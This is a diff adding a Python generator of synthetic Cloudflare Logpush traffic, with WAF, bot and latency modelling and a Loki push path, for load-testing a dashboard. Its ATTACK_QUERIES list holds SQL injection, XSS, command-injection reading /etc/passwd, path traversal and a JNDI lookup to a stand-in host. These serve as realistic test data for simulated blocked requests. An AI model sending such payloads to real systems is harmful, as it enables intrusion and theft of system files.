@@ -0,0 +1,649 @@
+#!/usr/bin/env python3
+"""Generate synthetic Cloudflare Logpush traffic for load-testing the dashboard.
+
+Usage:
+  python3 synth_logpush.py --out logs.ndjson.gz --rate 20000 --duration 10m --start 2026-01-01T00:00:00Z
+  python3 synth_logpush.py --push http://localhost:3100/loki/api/v1/push --rate 10000 --duration 1h
+  python3 synth_logpush.py --out - --lines 1000 --bot-share 0.4 | head
+
+Lines use the `_dataset` record prefix from the README, so they can be fed to
+Loki (directly with --push, or through the Alloy pipeline) or to logql_eval.py.
+
+Every http_requests line is one simulated request. Blocked, challenged and
+logged requests also emit the matching firewall_events line (same RayID, IP,
+host and path), and requests on Worker routes emit a workers_trace_events line.
+--rate is the target for all three datasets together.
+
+High-cardinality fields (paths, client IPs, ASNs, JA4s, user agents) are drawn
+from Zipf distributions with P(rank k) ~ 1/k^s; the number of distinct values
+and the exponent of each are set with --cardinality and --zipf. An IP always
+maps to the same ASN and country. Latencies come from log-normal models: cache
+hits only pay edge time, misses and dynamic requests add DNS, TCP/TLS handshake
+and origin time with a slow tail.
+
+The same --seed and --start always produce the same lines. --rate sets the
+density of timestamps, not how fast lines are written: files are written as
+fast as possible unless --realtime is given (the default for --push).
+"""
+import argparse, base64, calendar, gzip, itertools, json, math, multiprocessing, operator, random, sys, time, urllib.request
+from datetime import datetime, timezone
+
+DIMENSIONS = {  # name: (distinct values, Zipf exponent)
+    "paths": (20000, 1.1),
+    "ips": (100000, 1.05),
+    "asns": (3000, 1.2),
+    "ja4": (800, 1.3),
+    "uas": (3000, 1.2),
+}
+
+COUNTRIES = ["us", "de", "gb", "fr", "nl", "sg", "jp", "in", "br", "ca", "au", "cn", "ru", "id", "kr",
+             "se", "pl", "es", "it", "vn", "tr", "ua", "mx", "ar", "za", "hk", "tw", "ch", "ie", "fi"]
+COLOS = [("AMS", 14), ("FRA", 19), ("LHR", 17), ("CDG", 20), ("IAD", 21), ("SJC", 18), ("DFW", 22),
+         ("ORD", 23), ("SIN", 98), ("NRT", 36), ("HKG", 30), ("SYD", 40), ("GRU", 81), ("BOM", 54),
+         ("YYZ", 44), ("MAD", 60), ("WAW", 75), ("ARN", 68), ("JNB", 112), ("ICN", 92)]
+COUNTRY_COLOS = {"us": 4, "ca": 14, "mx": 6, "br": 12, "ar": 12, "gb": 2, "ie": 2, "fr": 3, "es": 15, "de": 1,
+                 "nl": 0, "ch": 1, "it": 1, "pl": 16, "ua": 16, "ru": 16, "se": 17, "fi": 17, "tr": 1, "za": 18,
+                 "in": 13, "sg": 8, "id": 8, "vn": 8, "jp": 9, "kr": 19, "cn": 10, "hk": 10, "tw": 10, "au": 11}
+BOTS = [("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Search Engine Crawler"),
+        ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "Search Engine Crawler"),
+        ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "Search Engine Optimization"),
+        ("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "Monitoring & Analytics"),
+        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Page Preview"),
+        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "AI Crawler")]
+BAD_BOTS = ["python-requests/2.31.0", "curl/8.4.0", "Go-http-client/1.1", "Mozilla/5.0 zgrab/0.x",
+            "Wget/1.21.3", "Java/17.0.2", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36",
+            "masscan/1.3", "Scrapy/2.11.0 (+https://scrapy.org)", ""]
+ATTACK_PATHS = ["/wp-login.php", "/xmlrpc.php", "/admin", "/phpmyadmin/index.php", "/.env", "/api/auth/login",
+                "/cgi-bin/eval.sh", "/login", "/wp-admin/admin-ajax.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"]
+ATTACK_QUERIES = ["?id=1%27%20OR%20%271%27=%271", "?q=%3Cscript%3Ealert(1)%3C/script%3E", "?cmd=cat%20/etc/passwd",
+                  "?file=../../../../etc/passwd", "?u=${jndi:ldap://x.example/a}"]
+WAF_RULES = [("waf", "firewallmanaged", "Cloudflare Managed Ruleset: SQLi - Comment"),
+             ("waf", "firewallmanaged", "Cloudflare Managed Ruleset: XSS - Script Tag"),
+             ("waf", "firewallmanaged", "Cloudflare OWASP Core Ruleset: Anomaly Score Exceeded"),
+             ("waf", "firewallmanaged", "Cloudflare Managed Ruleset: Remote Code Execution - Common Bash Bypass"),
+             ("firewallcustom", "firewallcustom", "Block wp-login and xmlrpc"),
+             ("firewallcustom", "firewallcustom", "Challenge admin paths outside allowed countries")]
+BOT_RULES = [("botfight", "Bot Fight Mode"), ("botmanagement", "Bot Management: definitely automated")]
+OTHER_SOURCES = [("ratelimit", "Rate limit: 100 req/10s per IP on /api/", 429), ("l7ddos", "HTTP DDoS attack protection", 403),
+                 ("ip", "IP access rule", 403), ("country", "Country block", 403), ("apishield", "API Shield: schema violation", 403)]
+CONTENT_TYPES = {"js": "application/javascript", "css": "text/css", "png": "image/png", "jpg": "image/jpeg",
+                 "webp": "image/webp", "woff2": "font/woff2", "svg": "image/svg+xml", "json": "application/json",
+                 "html": "text/html", "xml": "application/xml", "txt": "text/plain"}
+CIPHERS = [("TLSv1.3", "AEAD-AES128-GCM-SHA256", 60), ("TLSv1.3", "AEAD-CHACHA20-POLY1305-SHA256", 15),
+           ("TLSv1.2", "ECDHE-RSA-AES128-GCM-SHA256", 12), ("TLSv1.3", "AEAD-AES256-GCM-SHA384", 10), ("none", "NONE", 3)]
+SAMPLES = 8192  # size of each precomputed latency/size pool
+
+j = json.dumps
+
+def _zipf_cum(n, s):
+    return list(itertools.accumulate(1.0 / (k + 1) ** s for k in range(n)))
+
+class Zipf:
+    """Values of one dimension by rank; P(rank k) ~ 1/(k+1)^s.
+
+    make(rank, rng) builds the value for a rank the first time it is drawn, from
+    an rng seeded by (seed, name, rank), so a rank always gets the same value
+    regardless of draw order.
+    """
+
+    def __init__(self, name, n, s, make, rng, seed):
+        self.name, self.make, self.rng, self.seed = name, make, rng, seed
+        self.ranks = range(n)
+        self.cum = _zipf_cum(n, s)
+        self.values = {}
+
+    def value(self, rank):
+        v = self.values.get(rank)
+        if v is None:
+            v = self.values[rank] = self.make(rank, random.Random(f"{self.seed}:{self.name}:{rank}"))
+        return v
+
+    def sample(self, k):
+        value = self.value
+        return [value(r) for r in self.rng.choices(self.ranks, cum_weights=self.cum, k=k)]
+
+def _lognormal_ms(rng, median, sigma):
+    return rng.lognormvariate(math.log(median), sigma)
+
+# ---- Dimension values --------------------------------------------------------
+
+_WORDS = ("account cart checkout product search blog docs about pricing news media user order item help "
+          "status team careers category tag archive report invoice settings profile feed event").split()
+
+def make_path(rank, r):
+    """(path, content type, cacheable, median body bytes, api route)."""
+    fixed = [("/", "html", True, 48000, False), ("/favicon.ico", "txt", True, 4200, False),
+             ("/robots.txt", "txt", True, 300, False), ("/api/v1/session", "json", False, 900, True),
+             ("/sitemap.xml", "xml", True, 22000, False)]
+    if rank < len(fixed):
+        path, ext, cacheable, size, api = fixed[rank]
+        return j(path), j(CONTENT_TYPES[ext]), cacheable, size, api
+    kind = r.random()
+    if kind < 0.45:
+        ext = r.choice(["js", "css", "png", "jpg", "webp", "woff2", "svg"])
+        path = f"/static/{ext}/{r.choice(_WORDS)}.{r.getrandbits(32):08x}.{ext}"
+        size = {"js": 90000, "css": 30000, "woff2": 40000, "svg": 3000}.get(ext, 120000)
+        return j(path), j(CONTENT_TYPES[ext]), True, size, False
+    if kind < 0.75:
+        path = f"/{r.choice(_WORDS)}/{r.choice(_WORDS)}-{r.choice(_WORDS)}-{r.randrange(1, 5000)}"
+        return j(path), j(CONTENT_TYPES["html"]), r.random() < 0.6, 35000, False
+    path = f"/api/v{r.choice('12')}/{r.choice(_WORDS)}s/{r.randrange(1, 10 ** 6)}"
+    return j(path), j(CONTENT_TYPES["json"]), False, 2500, True
+
+def make_asn(countries):
+    def make(rank, r):
+        country = countries.value(r.randrange(len(COUNTRIES)) if rank > 50 else rank % len(COUNTRIES))
+        number = [13335, 15169, 16509, 8075, 7922, 3320, 2856, 4134, 14061, 24940][rank] if rank < 10 else r.randrange(1000, 400000)
+        name = f"{''.join(r.choice('ABCDEFGHIJKLMNOPRSTUVW') for _ in range(r.randrange(3, 9)))}-AS"
+        return number, j(name), j(country)
+    return make
+
+def make_ip(asns):
+    asn_cum = asns.cum
+
+    def make(rank, r):
+        asn = asns.value(r.choices(asns.ranks, cum_weights=asn_cum)[0])
+        if r.random() < 0.3:
+            ip = "2a0%x:%x:%x:%x::%x" % (r.randrange(16), r.getrandbits(16), r.getrandbits(16), r.getrandbits(16), r.getrandbits(16))
+        else:
+            ip = f"{r.randrange(1, 224)}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"
+        return j(ip), asn
+    return make
+
+def make_ja4(rank, r):
+    alpn = r.choice(["h2", "h2", "h1", "00"])
+    return j(f"t13d{r.randrange(10, 20)}{r.randrange(10, 20)}{alpn}_{r.getrandbits(48):012x}_{r.getrandbits(48):012x}")
+
+def make_ua(rank, r):
+    """(user agent, device type)."""
+    kind = r.random()
+    chrome = f"{r.randrange(110, 131)}.0.{r.randrange(1000, 7000)}.{r.randrange(10, 200)}"
+    if kind < 0.45:
+        ua = f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome} Safari/537.36"
+        return j(ua), j("desktop")
+    if kind < 0.6:
+        ua = f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{r.randrange(6)} Safari/605.1.15"
+        return j(ua), j("desktop")
+    if kind < 0.85:
+        ua = f"Mozilla/5.0 (iPhone; CPU iPhone OS 17_{r.randrange(6)} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{r.randrange(6)} Mobile/15E148 Safari/604.1"
+        return j(ua), j("mobile")
+    if kind < 0.95:
+        ua = f"Mozilla/5.0 (Linux; Android {r.randrange(10, 15)}; SM-S9{r.randrange(10, 30)}B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome} Mobile Safari/537.36"
+        return j(ua), j("mobile")
+    ua = f"Mozilla/5.0 (iPad; CPU OS 17_{r.randrange(6)} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1"
+    return j(ua), j("tablet")
+
+# ---- Latency and size pools ----------------------------------------------------
+
+def edge_pool(rng):
+    """Edge-only time to first byte (ms) for cache hits."""
+    return [max(1, int(_lognormal_ms(rng, 6, 0.8))) for _ in range(SAMPLES)]
+
+def origin_pool(rng):
+    """(dns, tcp, tls, send, header receive, total origin, ttfb) in ms for requests that reach the origin."""
+    out = []
+    for _ in range(SAMPLES):
+        reused = rng.random() < 0.7
+        dns = int(_lognormal_ms(rng, 12, 0.7)) if rng.random() < 0.05 else 0
+        tcp = 0 if reused else max(1, int(_lognormal_ms(rng, 14, 0.6)))
+        tls = 0 if reused else max(1, int(tcp * rng.uniform(1.0, 1.6)))
+        send = int(rng.random() < 0.1)
+        slow = rng.random() < 0.03
+        recv = max(1, int(_lognormal_ms(rng, 1200 if slow else 70, 0.7 if slow else 0.9)))
+        total = dns + tcp + tls + send + recv
+        ttfb = min(65535, total + max(1, int(_lognormal_ms(rng, 4, 0.6))))
+        out.append((dns, tcp, tls, send, recv, total, ttfb))
+    return out
+
+def size_pool(rng, median, sigma=1.0):
+    return [max(0, int(_lognormal_ms(rng, median, sigma))) for _ in range(SAMPLES // 8)]
+
+# ---- Records -------------------------------------------------------------------
+
+class Record:
+    """Line template for one dataset, fields in Logpush's (alphabetical) order.
+
+    fields maps name -> constant value, or None for a per-line value. Per-line
+    values are passed to format() as a dict of JSON-encoded fragments.
+    """
+
+    def __init__(self, dataset, fields):
+        parts = []
+        for name in sorted(fields):
+            value = "%s" if fields[name] is None else j(fields[name], separators=(",", ":")).replace("%", "%%")
+            parts.append(f'"{name}":{value}')
+        self.template = '{"_dataset":"%s",' % dataset + ",".join(parts) + "}"
+        self.values = operator.itemgetter(*sorted(k for k, v in fields.items() if v is None))
+
+    def format(self, values):
+        return self.template % self.values(values)
+
+HTTP_FIELDS = dict.fromkeys(
+    "BotDetectionIDs BotScore BotScoreSrc BotTags CacheCacheStatus CacheResponseBytes CacheResponseStatus "
+    "CacheTieredFill ClientASN ClientCountry ClientDeviceType ClientIP ClientIPClass ClientRequestBytes "
+    "ClientRequestHost ClientRequestMethod ClientRequestPath ClientRequestProtocol ClientRequestReferer "
+    "ClientRequestURI ClientRequestUserAgent ClientSSLCipher ClientSSLProtocol ClientSrcPort ClientTCPRTTMs "
+    "EdgeColoCode EdgeColoID EdgeEndTimestamp EdgePathingOp EdgePathingSrc EdgePathingStatus EdgeRateLimitAction "
+    "EdgeRequestHost EdgeResponseBodyBytes EdgeResponseBytes EdgeResponseCompressionRatio EdgeResponseContentType "
+    "EdgeResponseStatus EdgeStartTimestamp EdgeTimeToFirstByteMs JA3Hash JA4 JSDetectionPassed "
+    "LeakedCredentialCheckResult OriginDNSResponseTimeMs OriginIP OriginRequestHeaderSendDurationMs "
+    "OriginResponseBytes OriginResponseDurationMs OriginResponseHeaderReceiveDurationMs OriginResponseStatus "
+    "OriginResponseTime OriginSSLProtocol OriginTCPHandshakeDurationMs OriginTLSHandshakeDurationMs RayID "
+    "SecurityAction SecurityActions SecurityRuleDescription SecurityRuleID SecurityRuleIDs SecuritySources "
+    "SmartRouteColoID UpperTierColoID VerifiedBotCategory WAFAttackScore WAFRCEAttackScore WAFSQLiAttackScore "
+    "WAFXSSAttackScore WorkerCPUTime WorkerStatus WorkerSubrequest WorkerSubrequestCount WorkerWallTimeUs ZoneName".split())
+HTTP_FIELDS.update({
+    "CacheReserveUsed": False, "ClientMTLSAuthCertFingerprint": "", "ClientMTLSAuthStatus": "unknown",
+    "ClientRegionCode": "", "ClientRequestScheme": "https", "ClientRequestSource": "eyeball", "ClientXRequestedWith": "",
+    "ContentScanObjResults": [], "ContentScanObjTypes": [], "Cookies": {}, "EdgeCFConnectingO2O": False,
+    "EdgeRateLimitID": 0, "EdgeServerIP": "", "FirewallMatchesActions": [], "FirewallMatchesRuleIDs": [],
+    "FirewallMatchesSources": [], "FraudAttack": "", "FraudDetectionIDs": [], "FraudDetectionTags": [],
+    "OriginResponseHTTPExpires": "", "OriginResponseHTTPLastModified": "", "ParentRayID": "00",
+    "RequestHeaders": {}, "SmartPlacementOriginIP": ""})
+
+FIREWALL_FIELDS = dict.fromkeys(
+    "Action ClientASN ClientASNDescription ClientCountry ClientIP ClientIPClass ClientRequestHost "
+    "ClientRequestMethod ClientRequestPath ClientRequestProtocol ClientRequestQuery ClientRequestUserAgent "
+    "Datetime Description EdgeColoCode EdgeResponseStatus OriginResponseStatus RayID RuleID Source UserAgent".split())
+FIREWALL_FIELDS.update({
+    "ClientRefererHost": "", "ClientRefererPath": "", "ClientRefererQuery": "", "ClientRefererScheme": "",
+    "ClientRequestScheme": "https", "Kind": "firewall", "LeakedCredentialCheckResult": "", "MatchIndex": 0,
+    "Metadata": {}, "OriginatorRayID": "00", "Ref": ""})
+
+WORKERS_FIELDS = dict.fromkeys(
+    "CPUTimeMs Event EventTimestampMs Exceptions Outcome ScriptName ScriptVersion WallTimeMs".split())
+WORKERS_FIELDS.update({"DispatchNamespace": "", "Entrypoint": "default", "EventType": "fetch", "Logs": [], "ScriptTags": []})
+
+def lines_per_request(a):
+    """Expected lines per simulated request, so --rate counts all three datasets."""
+    firewall = a.attack_share * 0.85 + a.bot_share * 0.7 * 0.3 + a.other_share
+    return 1 + firewall + a.workers_share
+
+class Traffic:
+    """Seeded request simulator.
+
+    batch(index, n, t0, dt) simulates n requests spaced dt ns apart from t0.
+    Each batch draws from its own rng seeded by (seed, index), so a batch is the
+    same no matter which process builds it or what was built before.
+    """
+
+    def __init__(self, args):
+        self.args = args
+        seed = self.seed = args.seed
+        self.rng = rng = random.Random(seed)
+        pools = random.Random(f"{seed}:pools")
+        card = dict(DIMENSIONS)
+        for name, value in _pairs(args.cardinality).items():
+            card[name] = (int(value), card[name][1])
+        for name, value in _pairs(args.zipf).items():
+            card[name] = (card[name][0], float(value))
+        countries = Zipf("countries", len(COUNTRIES), 1.0, lambda rank, r: COUNTRIES[rank], rng, seed)
+        self.asns = Zipf("asns", *card["asns"], make_asn(countries), rng, seed)
+        self.ips = Zipf("ips", *card["ips"], make_ip(self.asns), rng, seed)
+        self.paths = Zipf("paths", *card["paths"], make_path, rng, seed)
+        self.ja4 = Zipf("ja4", *card["ja4"], make_ja4, rng, seed)
+        self.uas = Zipf("uas", *card["uas"], make_ua, rng, seed)
+        hosts = [h.strip() for h in args.hosts.split(",") if h.strip()]
+        # (host, zone, referer, https://host prefix) per host
+        self.hosts = [(j(h), j(".".join(h.split(".")[-2:])), j(f"https://{h}/"), f"https://{h}") for h in hosts]
+        self.host_cum = _zipf_cum(len(hosts), 1.0)
+        scripts = [s.strip() for s in args.scripts.split(",") if s.strip()]
+        self.scripts = [(j(s), '{"Id":"%08x-%04x-4%03x-a%03x-%012x"}' % tuple(pools.getrandbits(b) for b in (32, 16, 12, 12, 48)))
+                        for s in scripts]
+        self.colos = [(j(code), cid) for code, cid in COLOS]
+        self.ciphers = [(j(proto), j(name)) for proto, name, _ in CIPHERS]
+        self.cipher_cum = list(itertools.accumulate(w for _, _, w in CIPHERS))
+        descs = [d for _, _, d in WAF_RULES] + [d for _, d in BOT_RULES] + [d for _, d, _ in OTHER_SOURCES]
+        self.rule_ids = {d: "%032x" % pools.getrandbits(128) for d in descs}
+        self.security = {}
+        self.edge = edge_pool(pools)
+        self.origin = origin_pool(pools)
+        self.rtt = [max(1, int(_lognormal_ms(pools, 25, 0.7))) for _ in range(SAMPLES)]
+        self.sizes = {}
+        self.http = Record("http_requests", HTTP_FIELDS)
+        self.firewall = Record("firewall_events", FIREWALL_FIELDS)
+        self.workers = Record("workers_trace_events", WORKERS_FIELDS)
+        self._second = None
+
+    def _size(self, median):
+        pool = self.sizes.get(median)
+        if pool is None:
+            pool = self.sizes[median] = size_pool(random.Random(f"{self.seed}:size:{median}"), median)
+        return pool
+
+    def _stamp(self, ns):
+        sec = ns // 1_000_000_000
+        if sec != self._second:
+            self._second = sec
+            self._stamp_text = j(datetime.fromtimestamp(sec, timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ"))
+        return self._stamp_text
+
+    def _security(self, action, desc, source):
+        """JSON fragments of the Security* fields for one rule outcome."""
+        key = (action, desc, source)
+        frag = self.security.get(key)
+        if frag is None:
+            rule = self.rule_ids.get(desc, "")
+            frag = self.security[key] = (j(action), j([action] if action else []), j(desc), j(rule),
+                                         j([rule] if rule else []), j([source] if source else []), j(source))
+        return frag
+
+    def batch(self, index, n, t0, dt):
+        """-> [(dataset, ts_ns, line), ...] for n requests."""
+        a, rng = self.args, self.rng
+        rng.seed(f"{self.seed}:{index}")
+        random_ = rng.random
+        ips, paths, ja4s, uas = self.ips.sample(n), self.paths.sample(n), self.ja4.sample(n), self.uas.sample(n)
+        hosts = rng.choices(self.hosts, cum_weights=self.host_cum, k=n)
+        ciphers = rng.choices(self.ciphers, cum_weights=self.cipher_cum, k=n)
+        origin, edge, rtt, colos = self.origin, self.edge, self.rtt, self.colos
+        bot_share, verified_share, attack_share = a.bot_share, a.bot_share * 0.3, a.attack_share
+        no_security = self._security("", "", "")
+        out = []
+        for i in range(n):
+            ts_ns = int(t0 + i * dt)
+            ip, (asn, asn_name, country) = ips[i]
+            path, ctype, cacheable, median, api = paths[i]
+            host, zone, referer, origin_url = hosts[i]
+            proto, cipher = ciphers[i]
+            ray = '"%016x"' % rng.getrandbits(64)
+            stamp = self._stamp(ts_ns)
+            colo, colo_id = colos[COUNTRY_COLOS.get(country[1:-1], 4)]
+            method, query, status = '"GET"', "", 200
+            action = desc = source = ""
+            waf = 80 + int(random_() * 19)
+            sqli, xss, rce = waf + 1, min(99, waf + 2), min(99, waf + 1)
+            ua, device = uas[i]
+            bot_score, bot_src, verified, bot_ids, js = 30 + int(random_() * 69), '"Machine Learning"', '""', "[]", '"passed"'
+            roll = random_()
+            if roll < verified_share:
+                bot = BOTS[int(random_() * len(BOTS))]
+                ua, device, verified = j(bot[0]), '"desktop"', j(bot[1])
+                bot_score, bot_src, js = 1, '"Verified Bot"', '"missing"'
+            elif roll < bot_share:  # likely automated
+                ua, device = j(BAD_BOTS[int(random_() * len(BAD_BOTS))]), '"desktop"'
+                bot_score, bot_src, js = 1 + int(random_() * 28), '"Heuristics"' if random_() < 0.5 else '"Machine Learning"', '"failed"'
+                bot_ids = "[%d]" % (50331651 + int(random_() * 8))
+                if random_() < 0.3:
+                    source, desc = BOT_RULES[int(random_() * len(BOT_RULES))]
+                    action, status = "managed_challenge", 403
+            elif random_() < 0.05:
+                bot_score, bot_src = 0, '"Not Computed"'
+            if roll >= verified_share and random_() < attack_share:
+                path = j(ATTACK_PATHS[int(random_() * len(ATTACK_PATHS))])
+                ctype, cacheable, median, api = '"text/html"', False, 1200, False
+                query = ATTACK_QUERIES[int(random_() * len(ATTACK_QUERIES))] if random_() < 0.6 else ""
+                method = '"POST"' if random_() < 0.4 else '"GET"'
+                waf = 1 + int(random_() * 20)
+                sqli = waf if "27" in query else 60 + int(random_() * 39)
+                xss = waf if "script" in query else 60 + int(random_() * 39)
+                rce = waf if "cmd" in query or "jndi" in query else 60 + int(random_() * 39)
+                r = random_()
+                if r < 0.85:
+                    _, source, desc = WAF_RULES[int(random_() * len(WAF_RULES))]
+                    action, status = "block" if r < 0.6 else "managed_challenge", 403
+            elif not source and random_() < a.other_share:
+                source, desc, status = OTHER_SOURCES[int(random_() * len(OTHER_SOURCES))]
+                action = "block"
+            if api and method == '"GET"' and random_() < 0.3:
+                method = '"POST"'
+            blocked = status != 200
+            if blocked:
+                cache, pathing = '"unknown"', ('"filterBased"', '"ban"' if action == "block" else '"chl"', '""')
+            elif not cacheable or method != '"GET"':
+                cache, pathing = '"dynamic"', _PATHING_WL
+            else:
+                cache = '"hit"' if random_() < a.cache_hit else _CACHE_MISSES[int(random_() * len(_CACHE_MISSES))]
+                pathing = _PATHING_WL
+            if not blocked:
+                r = random_()
+                e = a.error_rate
+                status = (500 + int(random_() * 4) if r < e else 404 if r < e + 0.03 else
+                          304 if r < e + 0.1 and cache != '"dynamic"' else 301 if r < e + 0.12 else 200)
+            body = 0 if status in (301, 304) else self._size(median if status < 400 else 900)[int(random_() * (SAMPLES // 8))]
+            hit = blocked or cache in _CACHE_HITS
+            worker = not blocked and random_() < a.workers_share
+            if hit:
+                dns = tcp = tls = send = recv = total = ostatus = 0
+                ttfb = edge[int(random_() * SAMPLES)]
+            else:
+                dns, tcp, tls, send, recv, total, ttfb = origin[int(random_() * SAMPLES)]
+                ostatus = status if status != 304 else 200
+            wcpu = wwall = 0
+            if worker:
+                wcpu = max(1, int(_lognormal_ms(rng, 2, 0.8) * 1000))
+                wwall = wcpu + (total or 5) * 1000
+            tiered = cache == '"miss"' and random_() < 0.4
+            sec_action, sec_actions, sec_desc, sec_rule, sec_rules, sec_sources, source_j = (
+                self._security(action, desc, source) if source else no_security)
+            protocol = '"HTTP/2"' if proto != '"none"' and random_() < 0.8 else '"HTTP/1.1"'
+            fields = {
+                "BotDetectionIDs": bot_ids, "BotScore": bot_score, "BotScoreSrc": bot_src, "BotTags": "[]",
+                "CacheCacheStatus": cache, "CacheResponseBytes": body if hit and not blocked else 0,
+                "CacheResponseStatus": status if hit and not blocked else 0, "CacheTieredFill": "true" if tiered else "false",
+                "ClientASN": asn, "ClientCountry": country, "ClientDeviceType": device, "ClientIP": ip,
+                "ClientIPClass": '"noRecord"', "ClientRequestBytes": 400 + int(random_() * 1200) + (30000 if method == '"POST"' and random_() < 0.02 else 0),
+                "ClientRequestHost": host, "ClientRequestMethod": method, "ClientRequestPath": path,
+                "ClientRequestProtocol": protocol, "ClientRequestReferer": '""' if random_() < 0.4 else referer,
+                "ClientRequestURI": j(path[1:-1] + query) if query else path, "ClientRequestUserAgent": ua,
+                "ClientSSLCipher": cipher, "ClientSSLProtocol": proto,
+                "ClientSrcPort": 1024 + int(random_() * 64000), "ClientTCPRTTMs": rtt[int(random_() * SAMPLES)],
+                "EdgeColoCode": colo, "EdgeColoID": colo_id, "EdgeEndTimestamp": self._stamp(ts_ns + ttfb * 1_000_000) if ttfb > 500 else stamp,
+                "EdgePathingOp": pathing[1], "EdgePathingSrc": pathing[0], "EdgePathingStatus": pathing[2],
+                "EdgeRateLimitAction": '"block"' if source == "ratelimit" else '""', "EdgeRequestHost": host,
+                "EdgeResponseBodyBytes": body, "EdgeResponseBytes": body + 350 + int(random_() * 300),
+                "EdgeResponseCompressionRatio": 1 if not body or "image" in ctype else round(2 + random_() * 3, 2),
+                "EdgeResponseContentType": ctype, "EdgeResponseStatus": status, "EdgeStartTimestamp": stamp,
+                "EdgeTimeToFirstByteMs": ttfb, "JA3Hash": '""', "JA4": ja4s[i], "JSDetectionPassed": js,
+                "LeakedCredentialCheckResult": '"password_leaked"' if method == '"POST"' and random_() < 0.01 else '"clean"',
+                "OriginDNSResponseTimeMs": dns, "OriginIP": '""' if hit else '"192.0.2.10"',
+                "OriginRequestHeaderSendDurationMs": send, "OriginResponseBytes": 0,
+                "OriginResponseDurationMs": total, "OriginResponseHeaderReceiveDurationMs": recv,
+                "OriginResponseStatus": ostatus, "OriginResponseTime": total * 1_000_000,
+                "OriginSSLProtocol": '"none"' if hit else '"TLSv1.3"', "OriginTCPHandshakeDurationMs": tcp,
+                "OriginTLSHandshakeDurationMs": tls, "RayID": ray,
+                "SecurityAction": sec_action, "SecurityActions": sec_actions, "SecurityRuleDescription": sec_desc,
+                "SecurityRuleID": sec_rule, "SecurityRuleIDs": sec_rules, "SecuritySources": sec_sources,
+                "SmartRouteColoID": colo_id if not hit and random_() < 0.2 else 0, "UpperTierColoID": 22 if tiered else 0,
+                "VerifiedBotCategory": verified, "WAFAttackScore": waf, "WAFRCEAttackScore": rce,
+                "WAFSQLiAttackScore": sqli, "WAFXSSAttackScore": xss, "WorkerCPUTime": wcpu,
+                "WorkerStatus": '"ok"' if worker else '"unknown"', "WorkerSubrequest": "false",
+                "WorkerSubrequestCount": int(random_() * 4) if worker else 0, "WorkerWallTimeUs": wwall, "ZoneName": zone}
+            out.append(("http_requests", ts_ns, self.http.format(fields)))
+            if source:
+                out.append(("firewall_events", ts_ns, self.firewall.format({
+                    "Action": sec_action, "ClientASN": asn, "ClientASNDescription": asn_name, "ClientCountry": country,
+                    "ClientIP": ip, "ClientIPClass": '"noRecord"', "ClientRequestHost": host, "ClientRequestMethod": method,
+                    "ClientRequestPath": path, "ClientRequestProtocol": protocol, "ClientRequestQuery": j(query),
+                    "ClientRequestUserAgent": ua, "Datetime": stamp, "Description": sec_desc, "EdgeColoCode": colo,
+                    "EdgeResponseStatus": status, "OriginResponseStatus": 0, "RayID": ray, "RuleID": sec_rule,
+                    "Source": source_j, "UserAgent": ua})))
+            if worker:
+                script, version = self.scripts[int(random_() * len(self.scripts)) if random_() < 0.3 else 0]
+                r = random_() / a.error_rate if a.error_rate else 1
+                outcome = '"exception"' if r < 2 else '"exceededCpu"' if r < 2.4 else '"canceled"' if r < 3 else '"ok"'
+                exceptions = "[]" if outcome != '"exception"' else _EXCEPTION % (ts_ns // 1_000_000)
+                event = '{"Request":{"URL":%s,"Method":%s},"Response":{"Status":%d}}' % (j(origin_url + path[1:-1]), method, status)
+                out.append(("workers_trace_events", ts_ns, self.workers.format({
+                    "CPUTimeMs": wcpu // 1000, "Event": event, "EventTimestampMs": stamp, "Exceptions": exceptions,
+                    "Outcome": outcome, "ScriptName": script, "ScriptVersion": version, "WallTimeMs": wwall // 1000})))
+        return out
+
+_PATHING_WL = ('"macro"', '"wl"', '"nr"')
+_CACHE_MISSES = ['"miss"', '"miss"', '"expired"', '"revalidated"', '"stale"']
+_CACHE_HITS = {'"hit"', '"stale"', '"revalidated"'}
+_EXCEPTION = '[{"name":"TypeError","message":"Cannot read properties of undefined (reading \'id\')","timestamp":%d}]'
+
+def _pairs(text):
+    return dict(p.split("=", 1) for p in (text or "").split(",") if p.strip())
+
+# ---- Output ------------------------------------------------------------------
+
+_TRAFFIC = None
+
+def _init_worker(args):
+    global _TRAFFIC
+    _TRAFFIC = Traffic(args)
+
+def _render(task):
+    """Build one batch and encode it for the sink: (payload bytes, {dataset: lines})."""
+    index, n, t0, dt, sink, level, job = task
+    entries = _TRAFFIC.batch(index, n, t0, dt)
+    counts = {}
+    for dataset, _, _ in entries:
+        counts[dataset] = counts.get(dataset, 0) + 1
+    if sink == "loki":
+        streams = {}
+        for dataset, ts, line in entries:
+            streams.setdefault(dataset, []).append([str(ts), line])
+        body = {"streams": [{"stream": {"job": job, "dataset": ds}, "values": v} for ds, v in streams.items()]}
+        return gzip.compress(j(body, separators=(",", ":")).encode(), 1, mtime=0), counts
+    data = "".join(line + "\n" for _, _, line in entries).encode()
+    # Each batch is its own gzip member; concatenated members are one valid .gz stream
+    return (gzip.compress(data, level, mtime=0) if sink == "gzip" else data), counts
+
+class LokiSink:
+    """POSTs gzipped push bodies to a Loki push endpoint."""
+
+    def __init__(self, url, headers):
+        self.url = url
+        self.headers = {"Content-Type": "application/json", "Content-Encoding": "gzip", **headers}
+
+    def write(self, payload):
